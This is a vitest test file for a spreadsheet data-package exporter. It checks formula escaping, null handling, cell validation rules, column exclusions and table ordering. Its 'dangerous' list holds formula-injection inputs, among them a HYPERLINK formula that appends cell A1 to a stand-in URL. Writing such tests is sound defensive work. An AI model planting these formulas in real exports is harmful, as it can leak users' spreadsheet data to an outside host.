import { describe, expect, it } from 'vitest'
import {
  decodeCell,
  encodeCell,
  escapeText,
  packageTables,
  tableNamed,
  unescapeText,
  type PackageColumn,
} from './package-format'

const textColumn: PackageColumn = { name: 'note', kind: 'text', optional: true }

const dangerous = [
  '=1+1',
  '=HYPERLINK("http://example.org?"&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1",
  "''=1",
  "' =1",
]
const harmless = ['张三', 'a=b', "it's", "'quoted'", "'", ' ', 'A,"B"\r\nC', '1', '½', '😀', "''"]

describe('the desk’s data package', () => {
  it.each(dangerous)('makes %j inert for a spreadsheet and gives it back as it was', (text) => {
    const cell = escapeText(text)
    expect(cell).toBe(`'${text}`)
    expect(unescapeText(cell)).toBe(text)
  })

  it.each([...harmless, ''])('gives %j back as it was', (text) => {
    expect(unescapeText(escapeText(text))).toBe(text)
  })

  it('never writes a cell that a spreadsheet would compute', () => {
    for (const text of dangerous) expect(encodeCell(textColumn, text)).toMatch(/^"?'/u)
  })

  it('keeps the empty text apart from no value', () => {
    expect(encodeCell(textColumn, null)).toBe('')
    expect(decodeCell(textColumn, '')).toEqual({ ok: true, value: null })
    expect(decodeCell(textColumn, encodeCell(textColumn, ''))).toEqual({ ok: true, value: '' })
  })

  it('names the rule a cell breaks', () => {
    const refused = (column: PackageColumn, cell: string) => {
      const result = decodeCell(column, cell)
      return result.ok ? null : result.problem
    }
    const claims = new Map(tableNamed('claims').columns.map((column) => [column.name, column]))
    const of = (name: string): PackageColumn => claims.get(name) ?? textColumn
    expect(refused(of('claim_no'), '')).toBe('missing_value')
    expect(refused(of('state'), 'lost')).toBe('unknown_value')
    expect(refused(of('claimed_fen'), '12.5')).toBe('not_an_integer')
    expect(refused(of('claimed_fen'), '99999999999999999')).toBe('not_an_integer')
    expect(refused(of('line_count'), '-1')).toBe('below_minimum')
    expect(refused(of('due_on'), '2025-02-29')).toBe('not_a_date')
    expect(refused(of('received_at'), '2025-02-28T01:02:03Z')).toBe('not_an_instant')
    expect(decodeCell(of('claimed_fen'), '-50')).toEqual({ ok: true, value: -50 })
    expect(decodeCell(of('due_on'), '2024-02-29')).toEqual({ ok: true, value: '2024-02-29' })
  })

  it('SYN-03 leaves out what the receiver has no use for', () => {
    const names = packageTables.flatMap(({ columns }) => columns.map(({ name }) => name))
    expect(names).not.toContain('email')
    expect(names).not.toContain('batch_id')
  })

  it('lists a table after those it refers to', () => {
    const seen = new Set<string>()
    for (const { name, columns, references = [] } of packageTables) {
      const targets = [
        ...columns.flatMap(({ references: to }) => (to ? [to.table] : [])),
        ...references.map(({ table }) => table),
      ]
      for (const target of targets) expect(seen).toContain(target)
      seen.add(name)
    }
  })
})
